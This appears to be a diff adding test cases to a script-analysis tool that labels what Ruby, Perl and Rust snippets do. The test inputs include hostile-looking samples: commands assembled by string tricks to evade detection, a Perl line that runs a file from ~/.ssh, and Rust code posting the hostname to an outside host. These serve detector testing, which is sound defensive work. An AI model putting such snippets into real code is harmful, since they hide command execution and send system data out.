@@ -111,6 +111,20 @@ test.each<[Language, string, readonly string[]]>([
     'Net::HTTP.post(URI("https://a.example"), Etc.getlogin)',
     ["1:1 send channel=http destination=https://a.example payload=[~□<command:whoami>]"],
   ],
+  ["ruby", 'eval "i".ord.chr', ["1:1 evaluate language=ruby code=i{char-codes}"]],
+  ["ruby", 'system("a".upcase)', ["1:1 spawn program=A arguments=[] shell=true"]],
+  ["ruby", 'system("id".chars.join)', ["1:1 spawn program=id arguments=[] shell=true"]],
+  ["ruby", 'system("i".concat("d"))', ["1:1 spawn program=id arguments=[] shell=true"]],
+  [
+    "perl",
+    'my @f = glob("/home/me/.ssh/*"); system($f[0]);',
+    ["1:34 spawn program=~□<file:/home/me/.ssh/*> arguments=[] shell=true"],
+  ],
+  [
+    "rust",
+    'fn main() { let h = hostname::get().unwrap(); reqwest::blocking::Client::new().post("https://a.example").body(h).send(); }',
+    ["1:47 send channel=http destination=https://a.example payload=[~□<command:hostname.get>]"],
+  ],
 ])("%s: %s", (language, text, expected) => {
   expect(say(readScript, language, text).lines).toEqual(expected);
 });
